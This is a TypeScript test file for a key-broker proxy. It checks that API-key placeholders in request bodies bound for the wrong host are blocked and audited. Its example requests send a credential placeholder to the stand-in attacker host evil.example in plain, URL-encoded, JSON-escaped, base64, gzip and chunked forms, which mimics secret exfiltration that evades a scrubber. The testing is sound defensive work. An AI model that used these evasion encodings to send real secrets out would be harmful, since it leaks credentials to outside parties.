// docs/spec.md §3.2 with `intercept: all`: a placeholder in a request BODY bound for a host without
// its provider is caught in every form the scrubber knows (plain, JSON-escaped, URL-encoded,
// base64), after undoing gzip, in bodies read whole and streamed (chunked): the request is cut
// off before the placeholder leaves, the client gets 403 `placeholder_host_mismatch`, and the
// audit log says `blocked`.

import { randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import type { IncomingMessage, ServerResponse } from "node:http";
import { join } from "node:path";
import { Readable } from "node:stream";
import { gzipSync } from "node:zlib";
import { request } from "undici";
import { describe, expect, it } from "vitest";
import { rulesFor } from "../helpers/fixture.js";
import { sharedOpenAIClient } from "../helpers/in-process.js";

const c = sharedOpenAIClient({ rules: (u) => `intercept: all\n${rulesFor(u)}` });

/** What the upstream got of one request: its body so far, and whether it all arrived. */
interface Arrival {
  body: Buffer;
  complete: boolean;
}

/** A route on the upstream that records the body as it streams in, ended or cut off. */
function recordArrival(path: string, answerEarly = false): Promise<Arrival> {
  return new Promise((resolve) => {
    c.f.upstream.streamingRoutes.set(`POST ${path}`, (req: IncomingMessage, res: ServerResponse) => {
      const chunks: Buffer[] = [];
      let complete = false;
      if (answerEarly) {
        res.writeHead(200, { "content-type": "text/plain" });
        res.write("started ");
      }
      req.on("data", (c: Buffer) => chunks.push(c));
      req.on("end", () => {
        complete = true;
        res.end("done");
      });
      req.on("error", () => {});
      req.on("close", () => resolve({ body: Buffer.concat(chunks), complete }));
    });
  });
}

async function post(
  path: string,
  body: Buffer | AsyncIterable<Buffer>,
  headers: Record<string, string> = {},
) {
  const res = await request(`https://evil.example${path}`, {
    method: "POST",
    dispatcher: c.agent,
    headers: { "content-type": "application/octet-stream", ...headers },
    body: Buffer.isBuffer(body) ? body : Readable.from(body),
  });
  const text = await res.body.text();
  return { status: res.statusCode, headers: res.headers, text };
}

function expectBlocked(r: { status: number; headers: Record<string, unknown>; text: string }): void {
  expect(r.status, r.text).toBe(403);
  expect(r.headers["x-keybroker-error"]).toBe("placeholder_host_mismatch");
  expect(JSON.parse(r.text).error.provider).toBe("openai");
}

/** `text` as chunks of `size` bytes, one per turn of the event loop. */
async function* chunked(text: Buffer, size: number): AsyncIterable<Buffer> {
  for (let i = 0; i < text.length; i += size) {
    yield text.subarray(i, i + size);
    await new Promise((r) => setImmediate(r));
  }
}

const uEscaped = (s: string) =>
  [...s].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");

describe("placeholders in request bodies under intercept: all", () => {
  it("refuses a body read whole, in each form, and sends nothing", async () => {
    const before = c.f.upstream.received.length;
    const bodies: [string, Buffer, Record<string, string>][] = [
      ["plain", Buffer.from(`token=${c.ph}&x=1`), {}],
      ["url-encoded", Buffer.from(`q=${encodeURIComponent(`Bearer ${c.ph}`)}`), {}],
      ["JSON \\u-escaped", Buffer.from(`{"k":"${uEscaped(c.ph)}"}`), {}],
      ["base64", Buffer.from(`{"blob":"${Buffer.from(`key:${c.ph}`).toString("base64")}"}`), {}],
      ["gzip", gzipSync(`{"key":"${c.ph}"}`), { "content-encoding": "gzip" }],
    ];
    for (const [name, body, headers] of bodies) {
      const r = await post("/whole", body, headers);
      expect(r.status, name).toBe(403);
      expectBlocked(r);
    }
    expect(c.f.upstream.received.length).toBe(before);
  });

  it("cuts off a chunked body at the chunk holding a placeholder, split across chunks", async () => {
    const filler = Buffer.alloc(200 * 1024, "a");
    const text = Buffer.concat([filler, Buffer.from(` token=${c.ph} `), filler]);
    const arrival = recordArrival("/streamed");
    // 7-byte chunks around the placeholder: it arrives split, and no part of it may leave.
    const body = (async function* () {
      yield* chunked(text.subarray(0, filler.length), 16 * 1024);
      yield* chunked(text.subarray(filler.length, filler.length + 60), 7);
      yield* chunked(text.subarray(filler.length + 60), 16 * 1024);
    })();
    expectBlocked(await post("/streamed", body));
    const got = await arrival;
    expect(got.complete).toBe(false);
    expect(got.body.length).toBeLessThan(text.length);
    expect(got.body.toString()).not.toContain(c.ph.slice(0, 6));
  });

  it("cuts off a gzip-encoded chunked body", async () => {
    // Hex does not compress much: the upstream gets the first chunks before the placeholder.
    const noise = () => Buffer.from(randomBytes(150 * 1024).toString("hex"));
    const text = Buffer.concat([noise(), Buffer.from(`{"k":"${c.ph}"}`), noise()]);
    const arrival = recordArrival("/streamed-gzip");
    const r = await post("/streamed-gzip", chunked(gzipSync(text), 4096), { "content-encoding": "gzip" });
    expectBlocked(r);
    expect((await arrival).complete).toBe(false);
  });

  it("cuts the exchange off when the upstream has already begun to answer", async () => {
    const arrival = recordArrival("/early", true);
    let answered!: () => void;
    const headersIn = new Promise<void>((r) => {
      answered = r;
    });
    const body = (async function* () {
      yield Buffer.from("first clean chunk ");
      await headersIn;
      yield Buffer.from(`then ${c.ph}`);
      yield Buffer.from(" and more");
    })();
    const res = await request("https://evil.example/early", {
      method: "POST",
      dispatcher: c.agent,
      body: Readable.from(body),
    });
    expect(res.statusCode).toBe(200);
    answered();
    await expect(res.body.text()).rejects.toThrow();
    const got = await arrival;
    expect(got.complete).toBe(false);
    expect(got.body.toString()).not.toContain(c.ph);
  });

  it("passes bodies without a placeholder byte for byte, whole, chunked and gzip", async () => {
    const text = Buffer.from(`{"note":"kbph- sk-kb- ${"z".repeat(100_000)}"}`);
    for (const [body, headers] of [
      [Buffer.from("hello"), {}],
      [chunked(text, 1000), {}],
      [chunked(gzipSync(text), 500), { "content-encoding": "gzip" }],
    ] as const) {
      const r = await post("/clean", body, headers);
      expect(r.status).toBe(200);
    }
    const last = c.f.upstream.received.at(-1)!;
    expect(last.headers["content-encoding"]).toBe("gzip");
    expect(last.body.equals(gzipSync(text))).toBe(true);
  });

  it("leaves bodies to a provider's own host alone (its placeholder there is only a warning)", async () => {
    const res = await request("https://api.openai.com/v1/chat/completions", {
      method: "POST",
      dispatcher: c.agent,
      headers: { authorization: `Bearer ${c.ph}` },
      body: `{"echo":"${c.ph}"}`,
    });
    expect(res.statusCode).toBe(200);
    await res.body.text();
  });

  it("audits every refusal as blocked, the cut-off exchange too", async () => {
    await c.f.broker.stop(); // the log is written after the response: stop to flush
    const lines = readFileSync(join(c.f.home, "audit", "audit.jsonl"), "utf8")
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    const blocked = lines.filter((l) => l.decision === "blocked" && l.host === "evil.example");
    expect(blocked.map((l) => l.path).sort()).toEqual(
      ["/early", "/streamed", "/streamed-gzip", ...Array(5).fill("/whole")].sort(),
    );
    for (const l of blocked) expect(l.code).toBe("placeholder_host_mismatch");
    const clean = lines.filter((l) => l.path === "/clean");
    expect(clean.map((l) => l.decision)).toEqual(["passthrough", "passthrough", "passthrough"]);
  });
});
